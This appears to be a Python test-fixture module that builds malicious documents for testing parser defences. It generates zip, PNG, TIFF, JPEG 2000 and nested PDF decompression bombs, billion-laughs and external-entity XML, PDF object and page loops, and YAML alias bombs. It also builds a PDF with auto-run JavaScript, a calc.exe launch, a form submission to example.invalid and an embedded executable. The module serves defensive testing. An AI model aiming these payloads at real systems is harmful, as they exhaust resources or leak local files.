"""Files that are made to harm: bombs, loops, traps. Small on disk, the same bytes each time."""

import io
import struct
import zipfile
import zlib
from collections.abc import Mapping, Sequence

from tests.builders.containers import zip_of

#: Bytes that a bomb unpacks to: enough to be told from a document, not enough to hurt a test.
BOMB = 1_500_000_000

_CHUNK = 1 << 20


def bomb_stream(size: int, chunk: bytes = bytes(_CHUNK)) -> bytes:
    """A raw deflate stream of a piece that is repeated up to a size."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    packer.compress(chunk)
    packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(chunk) + packer.flush(zlib.Z_FULL_FLUSH)
    end = zlib.compressobj(9, zlib.DEFLATED, -15).flush()
    return piece * (size // len(chunk)) + end


def zlib_bomb(size: int, chunk: bytes = bytes(_CHUNK)) -> bytes:
    """The same with the head and sum that PDF and PNG ask for."""
    total = 1
    for _ in range(size // len(chunk)):
        total = zlib.adler32(chunk, total) if size <= 64 * len(chunk) else total
    return b"\x78\xda" + bomb_stream(size, chunk) + struct.pack(">I", total)


def zip_with(
    files: Mapping[str, bytes], bombs: Mapping[str, tuple[bytes, int, bytes]], *, told: int
) -> bytes:
    """A zip of ordinary members and of bombs (beginning, size of the middle, end).

    ``told`` is the size that the zip states for each bomb.
    """
    entries: list[tuple[str, int, bytes, int, int]] = []
    for name, data in files.items():
        entries.append((name, 0, data, len(data), zlib.crc32(data)))
    for name, (start, size, end) in bombs.items():
        packed = _stored(start) + bomb_stream(size, b"<!-- -->" * (_CHUNK // 8))[:-2]
        packed += _stored(end, last=True)
        entries.append((name, 8, packed, told, 0))
    body, listing = b"", b""
    for name, method, data, size, crc in entries:
        raw = name.encode()
        common = struct.pack("<HHHHH", 20, 0x800, method, 0, 0x4EAA)
        common += struct.pack("<III", crc, len(data), size) + struct.pack("<HH", len(raw), 0)
        tail = struct.pack("<HHHII", 0, 0, 0, 0, len(body))
        listing += b"PK\x01\x02" + struct.pack("<H", 20) + common + tail + raw
        body += b"PK\x03\x04" + common + raw + data
    count = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(listing), len(body), 0)
    return body + listing + b"PK\x05\x06" + count


def _stored(data: bytes, *, last: bool = False) -> bytes:
    """A block of a deflate stream that is not packed."""
    return struct.pack("<BHH", last, len(data), len(data) ^ 0xFFFF) + data


_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships">{}</Relationships>'
)
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relation(name: str, kind: str, target: str, *, external: bool = False) -> str:
    mode = ' TargetMode="External"' if external else ""
    return f'<Relationship Id="{name}" Type="{_OFFICE}/{kind}" Target="{target}"{mode}/>'


def relations_part(relations: str) -> bytes:
    return _RELATIONS.format(relations).encode()


def types_part(declared: str) -> bytes:
    return _TYPES.format(declared).encode()


def docx_parts(body: str, relations: str = "", declared: str = "") -> dict[str, bytes]:
    """A letter: its body, what it refers to, and a document type declared before it."""
    word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    return {
        "[Content_Types].xml": _TYPES.format(
            f'<Override PartName="/word/document.xml" ContentType="{word}"/>'
        ).encode(),
        "_rels/.rels": relations_part(relation("r1", "officeDocument", "word/document.xml")),
        "word/_rels/document.xml.rels": relations_part(relations),
        "word/document.xml": (
            f'<?xml version="1.0"?>{declared}<w:document xmlns:w="http://schemas.openxmlformats.org/'
            f'wordprocessingml/2006/main" xmlns:r="{_OFFICE}" xmlns:a="http://schemas.'
            'openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/'
            'drawingml/2006/picture" xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/'
            f'wordprocessingDrawing"><w:body>{body}</w:body></w:document>'
        ).encode(),
    }


def paragraph(words: str) -> str:
    return f"<w:p><w:r><w:t>{words}</w:t></w:r></w:p>"


def linked_picture(name: str) -> str:
    """A picture that is not in the letter but at an address."""
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="1800000" cy="1800000"/>'
        f'<wp:docPr id="1" name="{name}"/><a:graphic><a:graphicData uri="http://schemas.'
        'openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" '
        f'name="{name}"/><pic:cNvPicPr/></pic:nvPicPr><pic:blipFill><a:blip r:link="{name}"/>'
        "<a:stretch><a:fillRect/></a:stretch></pic:blipFill><pic:spPr><a:xfrm><a:off x='0' y='0'/>"
        "<a:ext cx='1800000' cy='1800000'/></a:xfrm><a:prstGeom prst='rect'/></pic:spPr></pic:pic>"
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )


def xlsx_parts(rows: str, strings: str = "", declared: str = "") -> dict[str, bytes]:
    """A workbook of one sheet."""
    main = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    parts = {
        "[Content_Types].xml": _TYPES.format(
            f'<Override PartName="/xl/workbook.xml" ContentType="{main}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{main}.worksheet+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" ContentType="{main}.sharedStrings+xml"/>'
        ),
        "_rels/.rels": _RELATIONS.format(relation("r1", "officeDocument", "xl/workbook.xml")),
        "xl/_rels/workbook.xml.rels": _RELATIONS.format(
            relation("r1", "worksheet", "worksheets/sheet1.xml")
            + relation("r2", "sharedStrings", "sharedStrings.xml")
        ),
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook {space} xmlns:r="{_OFFICE}"><sheets>'
        '<sheet name="表" sheetId="1" r:id="r1"/></sheets></workbook>',
        "xl/worksheets/sheet1.xml": f'<?xml version="1.0"?>{declared}<worksheet {space}>'
        f"<sheetData>{rows}</sheetData></worksheet>",
        "xl/sharedStrings.xml": f'<?xml version="1.0"?><sst {space}>{strings}</sst>',
    }
    return {name: text.encode() for name, text in parts.items()}


def with_bomb(parts: Mapping[str, bytes], part: str, *, told: int, size: int = BOMB) -> bytes:
    """A package of which one part goes on and on before its last element ends."""
    at = parts[part].rindex(b"</")
    bomb = parts[part][:at], size, parts[part][at:]
    return zip_with({n: d for n, d in parts.items() if n != part}, {part: bomb}, told=told)


#: Entities of entities: a billion times the last; then a file and an address from outside.
LAUGHS = (
    '<!DOCTYPE r [<!ENTITY a0 "甲县甲县甲县">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    + "]>"
)


def outside(address: str) -> str:
    return f'<!DOCTYPE r [<!ENTITY out SYSTEM "{address}">]>'


def odt(body: str, declared: str = "", **more: bytes) -> bytes:
    space = "urn:oasis:names:tc:opendocument:xmlns:"
    names = "".join(
        f' xmlns:{name}="{space}{name}:1.0"' for name in ("office", "text", "script", "draw")
    )
    content = (
        f'<?xml version="1.0"?>{declared}<office:document-content{names} '
        'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:ooo="http://openoffice.org/2004/office" '
        f'xmlns:dom="http://www.w3.org/2001/xml-events" office:version="1.2">{body}'
        "</office:document-content>"
    )
    listed = "".join(
        f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="{kind}"/>'
        for name, kind in (
            ("/", "application/vnd.oasis.opendocument.text"),
            *((name, "text/xml") for name in ("content.xml", *more)),
        )
    )
    manifest = f'<?xml version="1.0"?><manifest:manifest xmlns:manifest="{space}manifest:1.0">'
    return zip_of(
        {
            "mimetype": b"application/vnd.oasis.opendocument.text",
            "content.xml": content.encode(),
            **more,
            "META-INF/manifest.xml": f"{manifest}{listed}</manifest:manifest>".encode(),
        }
    )


def png_bomb(side: int) -> bytes:
    """A picture of noughts: so many pixels across and down in a few bytes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    rows = bomb_stream((3 * side + 1) * side // _CHUNK * _CHUNK)
    body = chunk(b"IHDR", head) + chunk(b"IDAT", b"\x78\xda" + rows + bytes(4))
    return b"\x89PNG\r\n\x1a\n" + body + chunk(b"IEND", b"")


def tiff_bomb(side: int, frames: int = 1) -> bytes:
    """Pictures that state so many pixels and have next to none."""
    out = b"II*\x00" + struct.pack("<I", 8)
    for frame in range(frames):
        at = len(out)
        tags = (
            *((256, 4, side), (257, 4, side), (258, 3, 8), (259, 3, 8), (262, 3, 1)),
            *((273, 4, 8), (277, 3, 1), (278, 4, side), (279, 4, 10)),
        )
        body = struct.pack("<H", len(tags))
        body += b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in tags)
        last = frame == frames - 1
        out += body + struct.pack("<I", 0 if last else at + len(body) + 4)
    return out


def jp2_bomb(side: int) -> bytes:
    """A JPEG 2000 code stream that states so many pixels."""
    size = (
        struct.pack(">HIIIIIIIIH", 0, side, side, 0, 0, side, side, 0, 0, 3) + b"\x07\x01\x01" * 3
    )
    coding = b"\x00\x00\x00\x01\x01\x05\x04\x04\x00\x01"
    out = b"\xff\x4f\xff\x51" + struct.pack(">H", len(size) + 2) + size
    out += b"\xff\x52" + struct.pack(">H", len(coding) + 2) + coding
    quantum = b"\x40" + b"\x40" * 16
    out += b"\xff\x5c" + struct.pack(">H", len(quantum) + 2) + quantum
    return out + b"\xff\x90\x00\x0a\x00\x00\x00\x00\x00\x00\x00\x01\xff\x93\xff\xd9"


def pdf_of(objects: Sequence[bytes], *, trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A PDF of objects numbered from 1, with a plain table of where they stand."""
    out, places = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    table += b"".join(b"%010d 00000 n \n" % at for at in places)
    end = b"trailer\n<</Size %d %s>>\nstartxref\n%d\n%%%%EOF\n"
    return out + table + end % (len(objects) + 1, trailer, len(out))


def stream_of(entries: bytes, data: bytes) -> bytes:
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (entries, len(data), data)


_CATALOGUE, _PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<<>>%s>>"


def pdf_page(content: bytes, *more: bytes, entries: bytes = b"", catalogue: bytes = b"") -> bytes:
    """A PDF of one page."""
    first = _CATALOGUE[:-2] + catalogue + b">>"
    return pdf_of([first, _PAGES, _PAGE % entries, content, *more])


def pdf_stream_bomb(size: int) -> bytes:
    """A page whose drawing instructions unpack to noughts without end."""
    return pdf_page(stream_of(b"/Filter/FlateDecode", zlib_bomb(size, b" " * _CHUNK)))


def pdf_nested_bomb() -> bytes:
    """The same packed again and again: a few hundred bytes that unpack to gigabytes."""
    data = zlib_bomb(BOMB, b" " * _CHUNK)
    for _ in range(2):
        data = zlib.compress(data, 9)
    return pdf_page(stream_of(b"/Filter[" + b"/FlateDecode" * 3 + b"]", data))


def pdf_deep_tree(levels: int) -> bytes:
    """A page at the bottom of nodes within nodes."""
    nodes = [
        b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>"
        % (number + 1, b"" if number == 2 else b"/Parent %d 0 R" % (number - 1))
        for number in range(2, levels + 2)
    ]
    parent, page = levels + 1, levels + 2
    leaf = b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R/Resources<<>>>>"
    return pdf_of([_CATALOGUE, *nodes, leaf % (parent, page + 1), stream_of(b"", b"0 0 9 9 re f")])


def pdf_kids_loop() -> bytes:
    """Page nodes that contain each other, and a page whose parents go round."""
    return pdf_of(
        [
            _CATALOGUE,
            b"<</Type/Pages/Kids[3 0 R 4 0 R]/Count 9/Parent 3 0 R>>",
            b"<</Type/Pages/Kids[2 0 R 3 0 R]/Count 9/Parent 2 0 R>>",
            b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 595 842]/Resources<<>>>>",
        ]
    )


def pdf_prev_loop() -> bytes:
    """Tables of places of which each is the one before the other."""
    data = pdf_page(stream_of(b"", b"0 0 9 9 re f"))
    at = data.rindex(b"xref\n0")
    return data.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % at)


def pdf_object_stream_loop() -> bytes:
    """Packed objects that name as theirs the streams that hold them, in a circle."""
    packed = b"6 0 5 10 <</Type/Pages/Kids[]/Count 0>>"
    return pdf_page(
        stream_of(b"", b"0 0 9 9 re f"),
        stream_of(b"/Type/ObjStm/N 2/First 9/Extends 6 0 R", packed),
        stream_of(b"/Type/ObjStm/N 2/First 9/Extends 5 0 R", packed),
    )


def pdf_form_loop() -> bytes:
    """A drawing that draws itself, thrice each time."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</F 5 0 R>>>>"
    return pdf_page(
        stream_of(b"", b"/F Do"),
        stream_of(form, b"/F Do /F Do /F Do"),
        entries=b"/Resources<</XObject<</F 5 0 R>>>>",
    )


def pdf_that_acts() -> bytes:
    """Script on opening, a program to launch, an address to send to, a file inside."""
    script = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    return pdf_page(
        stream_of(b"", b"0 0 99 99 re f"),
        b"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A<</S/Launch/F(calc.exe)/Next %s>>/AA<</E %s>>"
        b">>" % (script, script),
        b"<</Type/Annot/Subtype/Widget/FT/Btn/T(b)/Rect[9 9 99 99]/A<</S/SubmitForm/F(http://"
        b"example.invalid/)>>>>",
        b"<</Type/Filespec/F(x.exe)/EF<</F 8 0 R>>>>",
        stream_of(b"/Type/EmbeddedFile", b"MZ payload"),
        entries=b"/Annots[5 0 R 6 0 R]/AA<</O %s>>" % script,
        catalogue=b"/OpenAction %s/AA<</WC %s>>/AcroForm<</Fields[6 0 R]/XFA(x)>>/Names<<"
        b"/JavaScript<</Names[(a) %s]>>/EmbeddedFiles<</Names[(x.exe) 7 0 R]>>>>/URI<</Base"
        b"(http://example.invalid/)>>" % (script, script, script),
    )


def flat_zip(count: int) -> bytes:
    """A zip whose list of contents is all that it has."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w") as archive:
        for at in range(count):
            archive.writestr(zipfile.ZipInfo(f"{at}.txt"), b"")
    return stream.getvalue()


#: Aliases of aliases of aliases; and brackets within brackets.
YAML_ALIASES = "a0: &a0 [x, x]\n" + "".join(
    f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12)
)
YAML_DEPTH = "files: " + "[" * 100_000
